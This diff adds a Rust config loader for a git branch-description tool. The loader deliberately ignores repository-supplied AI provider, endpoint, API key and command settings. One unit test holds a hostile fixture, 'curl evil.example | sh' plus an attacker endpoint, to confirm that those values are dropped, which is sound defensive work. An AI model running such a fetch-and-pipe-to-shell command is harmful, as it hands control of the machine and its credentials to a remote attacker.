@@ -0,0 +1,216 @@
+use anyhow::{Context, Result};
+use serde::Deserialize;
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// Name of the per-repository config file, looked up in the working tree root
+pub const REPO_CONFIG_FILE: &str = ".branchdesc.toml";
+
+/// Settings read from `.branchdesc.toml` in the repository and from
+/// `git-branch-desc/config.toml` in the user config directory. Environment variables and
+/// `git config` take precedence over both files. The AI provider, endpoint, API key and
+/// command are only read from the user config file.
+#[derive(Debug, Default, Clone, Deserialize, PartialEq)]
+#[serde(default, deny_unknown_fields)]
+pub struct FileConfig {
+    pub ai: AiFileConfig,
+    pub commit: CommitFileConfig,
+    /// Named AI prompt templates, selected with `--prompt <name>` or `ai.prompt`
+    pub prompts: BTreeMap<String, PromptTemplate>,
+}
+
+#[derive(Debug, Default, Clone, Deserialize, PartialEq)]
+#[serde(default, deny_unknown_fields)]
+pub struct AiFileConfig {
+    pub provider: Option<String>,
+    /// `auto`, `ai` or `builtin`
+    pub summarizer: Option<String>,
+    pub endpoint: Option<String>,
+    pub model: Option<String>,
+    pub temperature: Option<f64>,
+    pub api_key: Option<String>,
+    pub command: Option<String>,
+    pub chunk_tokens: Option<usize>,
+    /// Prompt template used when `--prompt` is not given
+    pub prompt: Option<String>,
+    pub language: Option<String>,
+    pub length: Option<String>,
+}
+
+/// The `[commit]` table: how description commit messages are built.
+#[derive(Debug, Default, Clone, Deserialize, PartialEq)]
+#[serde(default, deny_unknown_fields)]
+pub struct CommitFileConfig {
+    pub template: Option<String>,
+    pub skip_ci: Option<bool>,
+    pub signoff: Option<bool>,
+    pub trailers: Option<Vec<String>>,
+}
+
+/// A system prompt with `{branch}`, `{issue_title}`, `{language}` and `{length}`
+/// placeholders. `diff` replaces `system` when the content is a git diff.
+#[derive(Debug, Default, Clone, Deserialize, PartialEq)]
+#[serde(default, deny_unknown_fields)]
+pub struct PromptTemplate {
+    pub system: String,
+    pub diff: Option<String>,
+    pub language: Option<String>,
+    pub length: Option<String>,
+}
+
+impl FileConfig {
+    /// Loads the user config and lets the repository config override it field by field.
+    pub fn load(workdir: Option<&Path>) -> Result<Self> {
+        let user = match user_config_path() {
+            Some(path) => Self::load_file(&path)?,
+            None => Self::default(),
+        };
+        let repo = match workdir {
+            Some(dir) => Self::load_repo_file(dir)?,
+            None => Self::default(),
+        };
+        Ok(repo.or(user))
+    }
+
+    /// Loads `.branchdesc.toml` without the settings a cloned repository must not choose:
+    /// which program runs, where the content and the API key are sent. Those are ignored
+    /// with a warning.
+    fn load_repo_file(dir: &Path) -> Result<Self> {
+        let mut config = Self::load_file(&dir.join(REPO_CONFIG_FILE))?;
+        let ai = &mut config.ai;
+        let ignored: Vec<&str> = [
+            ("provider", ai.provider.take().is_some()),
+            ("endpoint", ai.endpoint.take().is_some()),
+            ("api_key", ai.api_key.take().is_some()),
+            ("command", ai.command.take().is_some()),
+        ]
+        .into_iter()
+        .filter_map(|(key, was_set)| was_set.then_some(key))
+        .collect();
+
+        if !ignored.is_empty() {
+            eprintln!(
+                "⚠️  Ignoring ai.{} in {REPO_CONFIG_FILE}; set them with git config or in the user config file",
+                ignored.join(", ai.")
+            );
+        }
+        Ok(config)
+    }
+
+    fn load_file(path: &Path) -> Result<Self> {
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+        let text = fs::read_to_string(path)
+            .with_context(|| format!("Failed to read config file {}", path.display()))?;
+        Self::parse(&text).with_context(|| format!("Invalid config file {}", path.display()))
+    }
+
+    pub fn parse(text: &str) -> Result<Self> {
+        Ok(toml::from_str(text)?)
+    }
+
+    /// Combines two configs, preferring values set in `self`.
+    pub fn or(self, fallback: Self) -> Self {
+        let mut prompts = fallback.prompts;
+        prompts.extend(self.prompts);
+
+        Self {
+            ai: AiFileConfig {
+                provider: self.ai.provider.or(fallback.ai.provider),
+                summarizer: self.ai.summarizer.or(fallback.ai.summarizer),
+                endpoint: self.ai.endpoint.or(fallback.ai.endpoint),
+                model: self.ai.model.or(fallback.ai.model),
+                temperature: self.ai.temperature.or(fallback.ai.temperature),
+                api_key: self.ai.api_key.or(fallback.ai.api_key),
+                command: self.ai.command.or(fallback.ai.command),
+                chunk_tokens: self.ai.chunk_tokens.or(fallback.ai.chunk_tokens),
+                prompt: self.ai.prompt.or(fallback.ai.prompt),
+                language: self.ai.language.or(fallback.ai.language),
+                length: self.ai.length.or(fallback.ai.length),
+            },
+            commit: CommitFileConfig {
+                template: self.commit.template.or(fallback.commit.template),
+                skip_ci: self.commit.skip_ci.or(fallback.commit.skip_ci),
+                signoff: self.commit.signoff.or(fallback.commit.signoff),
+                trailers: self.commit.trailers.or(fallback.commit.trailers),
+            },
+            prompts,
+        }
+    }
+}
+
+fn user_config_path() -> Option<PathBuf> {
+    Some(
+        dirs::config_dir()?
+            .join("git-branch-desc")
+            .join("config.toml"),
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_parse_config() {
+        let config = FileConfig::parse(
+            "[ai]\nprovider = \"openai\"\nendpoint = \"http://gpu:8000/v1\"\ntemperature = 0.2\n",
+        )
+        .unwrap();
+        assert_eq!(config.ai.provider.as_deref(), Some("openai"));
+        assert_eq!(config.ai.endpoint.as_deref(), Some("http://gpu:8000/v1"));
+        assert_eq!(config.ai.temperature, Some(0.2));
+        assert_eq!(config.ai.model, None);
+
+        let config =
+            FileConfig::parse("[commit]\nskip_ci = false\ntrailers = [\"Refs: {issue}\"]\n")
+                .unwrap();
+        assert_eq!(config.commit.skip_ci, Some(false));
+        assert_eq!(
+            config.commit.trailers,
+            Some(vec!["Refs: {issue}".to_string()])
+        );
+
+        assert_eq!(FileConfig::parse("").unwrap(), FileConfig::default());
+    }
+
+    #[test]
+    fn test_repo_file_cannot_choose_provider() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        fs::write(
+            temp_dir.path().join(REPO_CONFIG_FILE),
+            "[ai]\nprovider = \"command\"\ncommand = \"curl evil.example | sh\"\nendpoint = \"https://evil.example/v1\"\napi_key = \"k\"\nmodel = \"llama3.2\"\n",
+        )
+        .unwrap();
+
+        let config = FileConfig::load_repo_file(temp_dir.path()).unwrap();
+        assert_eq!(config.ai.provider, None);
+        assert_eq!(config.ai.command, None);
+        assert_eq!(config.ai.endpoint, None);
+        assert_eq!(config.ai.api_key, None);
+        assert_eq!(config.ai.model.as_deref(), Some("llama3.2"));
+        assert!(FileConfig::parse("[ai]\nmodle = \"typo\"\n").is_err());
+    }
+
+    #[test]
+    fn test_config_precedence() {
+        let repo = FileConfig::parse("[ai]\nmodel = \"repo-model\"\n").unwrap();
+        let user =
+            FileConfig::parse("[ai]\nmodel = \"user-model\"\napi_key = \"secret\"\n").unwrap();
+        let merged = repo.or(user);
+        assert_eq!(merged.ai.model.as_deref(), Some("repo-model"));
+        assert_eq!(merged.ai.api_key.as_deref(), Some("secret"));
+
+        // Prompt templates are merged by name
+        let repo = FileConfig::parse("[prompts.bullets]\nsystem = \"repo\"\n").unwrap();
+        let user = FileConfig::parse(
+            "[prompts.bullets]\nsystem = \"user\"\n[prompts.german]\nsystem = \"de\"\nlanguage = \"German\"\n",
+        )
+        .unwrap();
+        let merged = repo.or(user);
+        assert_eq!(merged.prompts["bullets"].system, "repo");
+        assert_eq!(merged.prompts["german"].language.as_deref(), Some("German"));
+    }
+}